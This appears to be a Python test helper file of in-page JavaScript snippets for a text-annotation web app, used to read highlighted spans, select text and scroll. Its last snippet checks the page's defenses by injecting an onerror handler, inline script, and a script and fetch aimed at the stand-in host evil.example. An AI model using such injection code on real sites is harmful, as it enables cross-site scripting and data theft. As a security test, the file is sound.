"""What the tests ask the page in its own language."""

#: Text, label and state of every span shown.
MARKS = """() => [...document.querySelectorAll('#text mark')].map((mark) => [
  mark.textContent, mark.dataset.tag.slice(2),
  [...mark.classList].find((name) => ['accepted', 'proposed', 'rejected'].includes(name))])"""

CURRENT = """() => {
  const mark = document.querySelector('#text mark.current');
  return [mark.textContent, mark.dataset.tag.slice(2)];
}"""

TEXT = "() => [...document.querySelectorAll('#text .block')].map((block) => block.textContent).join('')"

#: The spans of a note as the program has them.
SPANS = """async (name) => {
  const { csrf } = await (await fetch('/api/me')).json();
  const { notes } = await (await fetch('/api/queue?search=' + name)).json();
  const headers = { 'x-incognote-csrf': csrf };
  return (await (await fetch(`/api/notes/${notes[0].id}/open`, { method: 'POST', headers })).json()).spans;
}"""

#: Selects the first place of some words, whatever elements they run through.
SELECT = """(words) => {
  for (const block of document.querySelectorAll('#text .block')) {
    const at = block.textContent.indexOf(words);
    if (at < 0) continue;
    const place = (offset) => {
      const walker = document.createTreeWalker(block, NodeFilter.SHOW_TEXT);
      let node = walker.nextNode();
      while (node.length < offset) { offset -= node.length; node = walker.nextNode(); }
      return [node, offset];
    };
    document.getSelection().setBaseAndExtent(...place(at), ...place(at + words.length));
    return true;
  }
  return false;
}"""

#: Scrolls down a little and waits until it is painted.
SCROLL = """async () => {
  document.querySelector('#text').scrollTop += 400;
  await new Promise(requestAnimationFrame);
  await new Promise(requestAnimationFrame);
}"""

PAINTED = "async () => { await new Promise(requestAnimationFrame); await new Promise(requestAnimationFrame); }"

#: What a foreign script would try; nothing of it may run.
INTRUDE = """() => {
  document.body.insertAdjacentHTML('beforeend', '<img src="/nothing" onerror="window.broken = 1">');
  const inline = document.createElement('script');
  inline.textContent = 'window.broken = 2';
  const foreign = document.createElement('script');
  foreign.src = 'https://evil.example/x.js';
  document.body.append(inline, foreign);
  return fetch('https://evil.example/').then(() => 'sent', () => window.broken ?? 'stopped');
}"""
